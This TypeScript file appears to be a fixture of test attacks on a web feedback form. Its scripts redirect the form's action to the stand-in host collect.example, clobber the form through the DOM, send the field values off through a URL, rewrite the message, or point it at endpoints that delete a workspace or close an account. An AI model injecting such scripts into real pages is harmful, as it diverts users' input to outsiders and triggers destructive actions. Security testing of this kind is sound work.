import type { Attack } from '../attack.js';

const elsewhere = 'https://collect.example/form';
const form = "document.getElementById('feedback')";
const button = "document.querySelector('#feedback button')";

const moved: readonly (readonly [mechanism: string, name: string, script: string])[] = [
  ['moved action', 'the action leads to another host', `${form}.action = '${elsewhere}';`],
  [
    'moved action',
    'the action leads to another host by POST',
    `${form}.action = '${elsewhere}'; ${form}.method = 'post';`,
  ],
  ['moved action', 'the action leads to another port', `${form}.action = 'http://collect.example:8080/';`],
  ['moved action', 'the action has no host of its own', `${form}.setAttribute('action', '//collect.example/form');`],
  ['moved formaction', 'the button leads to another host', `${button}.setAttribute('formaction', '${elsewhere}');`],
  [
    'moved formaction',
    'the button leads to another host by POST',
    `${button}.setAttribute('formaction', '${elsewhere}'); ${button}.setAttribute('formmethod', 'post');`,
  ],
  [
    'moved base',
    'the base of all addresses is another host',
    `document.head.insertAdjacentHTML('afterbegin', '<base href="https://collect.example/">'); ${form}.setAttribute('action', 'form');`,
  ],
  [
    'moved by an event',
    'a click moves the action',
    `${button}.addEventListener('click', () => { ${form}.action = '${elsewhere}'; });`,
  ],
  [
    'moved by an event',
    'a submit moves the action',
    `${form}.addEventListener('submit', () => { ${form}.action = '${elsewhere}'; });`,
  ],
  [
    'moved by an event',
    'a press moves the action',
    `${button}.addEventListener('mousedown', () => { ${form}.action = '${elsewhere}'; });`,
  ],
  [
    'moved by an event',
    'typing moves the action',
    `${form}.addEventListener('input', () => { ${form}.action = '${elsewhere}'; });`,
  ],
  [
    'clobbered form',
    'a field named action hides the action',
    `${form}.insertAdjacentHTML('beforeend', '<input type=hidden name=action value=x>'); ${form}.setAttribute('action', '${elsewhere}');`,
  ],
  [
    'clobbered form',
    'a field named getAttribute hides the function',
    `${form}.setAttribute('action', '${elsewhere}'); ${form}.insertAdjacentHTML('beforeend', '<input type=hidden name=getAttribute value=x>');`,
  ],
  [
    'other form',
    'the button submits another form',
    `document.body.insertAdjacentHTML('beforeend', '<form id="other" action="${elsewhere}"></form>'); ${button}.setAttribute('form', 'other');`,
  ],
  ['other method', 'the form is posted', `${form}.method = 'post';`],
  ['other method', 'the button posts the form', `${button}.setAttribute('formmethod', 'post');`],
  [
    'other method',
    'the form is posted with another encoding',
    `${form}.method = 'post'; ${form}.enctype = 'multipart/form-data';`,
  ],
  ['other window', 'the form opens a window', `${form}.target = '_blank';`],
  ['other window', 'the button opens a window', `${button}.setAttribute('formtarget', '_blank');`],
  [
    'other window',
    'the form opens in a frame',
    `document.body.insertAdjacentHTML('beforeend', '<iframe name="box"></iframe>'); ${form}.target = 'box';`,
  ],
  ['led by script', 'the form leads to code', `${form}.action = 'javascript:void(window.acts.push("stolen"))';`],
  [
    'led by script',
    'a script submits the form elsewhere',
    `${button}.addEventListener('click', (event) => { event.preventDefault(); ${form}.action = '${elsewhere}'; ${form}.submit(); });`,
  ],
  [
    'led by script',
    'a script leads the values elsewhere',
    `${button}.addEventListener('click', (event) => { event.preventDefault(); location.href = '${elsewhere}?' + new URLSearchParams(new FormData(${form})); });`,
  ],
  [
    'led by script',
    'a value changes as it is collected',
    `${form}.addEventListener('formdata', (event) => event.formData.set('message', 'I resign'));`,
  ],
  ['riskier address', 'the address names an ending', `${form}.action = '/workspace/delete'; ${form}.method = 'post';`],
  ['riskier address', 'the button names an ending', `${button}.setAttribute('formaction', '/account/close-account');`],
];

export const forms: readonly Attack[] = moved.map(([mechanism, name, after]) => ({
  name,
  mechanism,
  call: 'feedback',
  after,
}));
